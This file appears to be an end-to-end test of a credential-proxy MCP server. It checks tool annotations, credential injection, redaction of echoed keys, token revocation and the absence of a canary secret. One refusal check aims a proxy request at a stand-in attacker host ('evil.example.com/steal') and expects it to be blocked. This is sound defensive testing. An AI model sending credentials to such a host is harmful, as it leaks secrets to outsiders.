// End-to-end test of `agentkeys mcp` with the official MCP TypeScript SDK
// (@modelcontextprotocol/sdk, pinned in package.json / package-lock.json).
//
// It starts the BUILT agentkeys binary as an MCP server over stdio, in a
// throwaway AGENTKEYS_HOME unlocked by a random AGENTKEYS_MASTER_KEY, and
// drives it as an MCP client would: initialize, list the tools (exactly the
// eight, with their annotations), create a credential, create an agent,
// assign the credential, and make proxy_request calls to a loopback upstream
// started here, which checks it received the injected credential (and once
// echoes it back, which must come back redacted). A canary
// credential value must never come back in any result or on the server's
// stderr. Exits 0 when everything holds, 1 otherwise.
//
// Usage: AGENTKEYS_BIN=/path/to/agentkeys node e2e.mjs   (or: node e2e.mjs /path/to/agentkeys)
// Go runs it from cmd/mcp_test.go (TestMCP_EndToEndWithTypeScriptSDK).

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdtempSync, rmSync } from "node:fs";
import http from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";

import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";

const TOOLS = {
  // name: [readOnlyHint, destructiveHint, idempotentHint, openWorldHint]
  list_credentials: [true, false, true, false],
  create_credential: [false, false, false, false],
  delete_credential: [false, true, true, false],
  update_credential: [false, true, true, false],
  list_agents: [true, false, true, false],
  create_agent: [false, false, false, false],
  delete_agent: [false, true, true, false],
  assign_credential: [false, true, false, false], // re-assigning revokes the old token
  proxy_request: [false, true, false, true],
};

const bin = process.env.AGENTKEYS_BIN || process.argv[2];
if (!bin) {
  console.error("usage: AGENTKEYS_BIN=/path/to/agentkeys node e2e.mjs");
  process.exit(2);
}

const canary = "sk-e2e-canary-" + randomBytes(12).toString("hex");
const dir = mkdtempSync(join(tmpdir(), "agentkeys-mcp-e2e-"));
const env = {
  PATH: process.env.PATH ?? "",
  HOME: dir,
  AGENTKEYS_HOME: join(dir, "vault"),
  AGENTKEYS_MASTER_KEY: randomBytes(32).toString("base64"),
  AGENTKEYS_LOG_LEVEL: "info",
};

const seen = []; // every tool result, as JSON, for the canary check
let stderr = "";

function log(msg) {
  console.log("e2e: " + msg);
}

// The upstream API: records what it received, never echoes it.
const received = [];
const upstream = http.createServer((req, res) => {
  let body = "";
  req.setEncoding("utf8");
  req.on("data", (c) => (body += c));
  req.on("end", () => {
    received.push({ method: req.method, url: req.url, headers: req.headers, body });
    const ok = req.headers.authorization === "Bearer " + canary;
    res.writeHead(ok ? 200 : 401, { "Content-Type": "application/json", "X-Upstream": "e2e" });
    if (req.url.startsWith("/echo")) {
      // A careless API that repeats the key it was sent.
      res.end(JSON.stringify({ error: "key " + req.headers.authorization + " is not allowed here" }));
      return;
    }
    res.end(JSON.stringify({ ok, path: req.url.split("?")[0] }));
  });
});

async function startServer(args) {
  const transport = new StdioClientTransport({ command: bin, args, env, stderr: "pipe" });
  transport.stderr?.on("data", (d) => (stderr += d.toString()));
  const client = new Client({ name: "agentkeys-e2e", version: "1.0.0" });
  await client.connect(transport);
  return client;
}

async function call(client, name, args) {
  const res = await client.callTool({ name, arguments: args });
  seen.push(JSON.stringify(res));
  return res;
}

async function ok(client, name, args) {
  const res = await call(client, name, args);
  const text = res.content?.map((c) => c.text).join("\n") ?? "";
  assert.ok(!res.isError, `${name} failed: ${text}`);
  assert.ok(res.structuredContent, `${name}: no structuredContent`);
  assert.ok(text.length > 0, `${name}: no text content`);
  return res.structuredContent;
}

async function refused(client, name, args, want) {
  const res = await call(client, name, args);
  const text = res.content?.map((c) => c.text).join("\n") ?? "";
  assert.equal(res.isError, true, `${name} should have failed, got: ${text}`);
  assert.ok(text.includes(want), `${name}: error ${JSON.stringify(text)} does not mention ${want}`);
  return text;
}

async function main() {
  await new Promise((resolve) => upstream.listen(0, "127.0.0.1", resolve));
  const hostPort = `127.0.0.1:${upstream.address().port}`;
  log(`upstream on ${hostPort}, vault in ${env.AGENTKEYS_HOME}`);

  execFileSync(bin, ["init"], { env, stdio: ["ignore", "ignore", "pipe"] });
  log("vault initialised");

  const client = await startServer(["mcp"]);
  const info = client.getServerVersion();
  assert.equal(info?.name, "agentkeys");
  assert.ok(client.getServerCapabilities()?.tools, "server does not offer tools");
  log(`initialized: ${info.name} ${info.version}`);

  // tools/list: exactly the eight, every hint explicit and right.
  const { tools } = await client.listTools();
  assert.deepEqual(tools.map((t) => t.name).sort(), Object.keys(TOOLS).sort());
  for (const t of tools) {
    const a = t.annotations ?? {};
    assert.deepEqual(
      [a.readOnlyHint, a.destructiveHint, a.idempotentHint, a.openWorldHint],
      TOOLS[t.name],
      `${t.name} annotations`,
    );
    assert.ok(t.description && t.description.length > 60, `${t.name}: description`);
    assert.equal(t.inputSchema.type, "object", `${t.name}: inputSchema`);
    assert.equal(t.outputSchema?.type, "object", `${t.name}: outputSchema`);
  }
  const byName = Object.fromEntries(tools.map((t) => [t.name, t]));
  assert.deepEqual(byName.proxy_request.inputSchema.required, ["url"]);
  assert.deepEqual([...byName.assign_credential.inputSchema.required].sort(), ["agent", "credential"]);
  log("tools/list: 8 tools with the expected annotations");

  // create_credential, create_agent, assign_credential.
  const created = await ok(client, "create_credential", {
    name: "E2E API",
    type: "API_KEY",
    value: canary,
    allowedHosts: [hostPort],
  });
  assert.deepEqual(created.credential.allowedHosts, [hostPort]);
  assert.match(created.credential.id, /^cred_/);
  const agent = await ok(client, "create_agent", { name: "e2e-bot" });
  assert.match(agent.agent.id, /^agent_/);
  const grant = await ok(client, "assign_credential", { agent: "e2e-bot", credential: "E2E API" });
  assert.match(grant.proxyToken, /^pxr_/);
  log("created credential, agent and assignment");

  // proxy_request with the token: the upstream gets the injected credential.
  const res = await ok(client, "proxy_request", {
    proxyToken: grant.proxyToken,
    url: `http://${hostPort}/v1/emails?x=1`,
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: '{"hello":"world"}',
  });
  const last = received.at(-1);
  assert.equal(last.headers.authorization, "Bearer " + canary, "upstream did not get the injected credential");
  assert.equal(last.method, "POST");
  assert.equal(last.url, "/v1/emails?x=1");
  assert.equal(last.body, '{"hello":"world"}');
  assert.equal(res.status, 200);
  assert.equal(res.bodyEncoding, "text");
  assert.equal(res.truncated, false);
  assert.deepEqual(JSON.parse(res.body), { ok: true, path: "/v1/emails" });
  assert.equal(res.headers["X-Upstream"], "e2e");
  log("proxy_request with the proxy token: upstream received Authorization: Bearer <credential>");

  // proxy_request by credential name (the owner's authority).
  const byNameRes = await ok(client, "proxy_request", { credentialName: "e2e api", url: `http://${hostPort}/v1/ping` });
  assert.equal(byNameRes.status, 200);
  assert.equal(received.at(-1).headers.authorization, "Bearer " + canary);
  log("proxy_request by credential name");

  // An upstream that echoes the credential: the model gets it redacted.
  const echoed = await ok(client, "proxy_request", { credentialName: "E2E API", url: `http://${hostPort}/echo` });
  assert.ok(echoed.redacted >= 1, "echoed credential not reported as redacted");
  assert.ok(JSON.parse(echoed.body).error.includes("Bearer [REDACTED by agentkeys]"), "echoed body: " + echoed.body);
  log("an echoed credential comes back redacted");

  // Refusals are tool results, and never reach the upstream.
  const before = received.length;
  await refused(client, "proxy_request", { proxyToken: grant.proxyToken, url: "https://evil.example.com/steal" }, "DESTINATION_NOT_ALLOWED");
  await refused(client, "proxy_request", { credentialName: "nope", url: `http://${hostPort}/` }, "NOT_FOUND");
  await refused(client, "create_credential", { name: "No hosts", value: canary }, "allowedHosts");
  assert.equal(received.length, before, "a refused request reached the upstream");
  log("refusals are isError results");

  // An unknown tool is a protocol error.
  await assert.rejects(client.callTool({ name: "read_secret", arguments: {} }), /not found|-32602/i);

  const list = await ok(client, "list_credentials", {});
  assert.deepEqual(list.credentials.map((c) => c.name), ["E2E API"]);
  const agents = await ok(client, "list_agents", {});
  assert.deepEqual(agents.agents[0].credentials.map((c) => c.credentialName), ["E2E API"]);

  // Deleting the agent revokes its token.
  await ok(client, "delete_agent", { agent: "e2e-bot" });
  await refused(client, "proxy_request", { proxyToken: grant.proxyToken, url: `http://${hostPort}/` }, "UNAUTHORIZED");
  await client.close();
  log("delete_agent revoked the token");

  // --read-only: only the list tools and proxy_request.
  const ro = await startServer(["mcp", "--read-only"]);
  const roTools = (await ro.listTools()).tools.map((t) => t.name).sort();
  assert.deepEqual(roTools, ["list_agents", "list_credentials", "proxy_request"]);
  const roRes = await ok(ro, "proxy_request", { credentialName: "E2E API", url: `http://${hostPort}/ro` });
  assert.equal(roRes.status, 200);
  await ro.close();
  log("--read-only exposes 3 tools and can still proxy");

  // The canary never came back, in any result or on stderr.
  for (const r of seen) assert.ok(!r.includes(canary), "a tool result contains the credential value: " + r);
  assert.ok(!stderr.includes(canary), "the server's stderr contains the credential value");
  assert.ok(stderr.includes("mcp tool"), "expected the server's per-call log on stderr");
  log(`canary absent from ${seen.length} results and ${stderr.length} bytes of stderr`);
}

const timer = setTimeout(() => {
  console.error("e2e: FAIL: timed out after 60s");
  process.exit(1);
}, 60_000);

let failed = false;
try {
  await main();
  console.log("e2e: PASS");
} catch (err) {
  failed = true;
  console.error("e2e: FAIL:", err?.stack ?? err);
  if (stderr) console.error("--- agentkeys stderr ---\n" + stderr);
} finally {
  clearTimeout(timer);
  upstream.close();
  rmSync(dir, { recursive: true, force: true });
}
process.exit(failed ? 1 : 0);
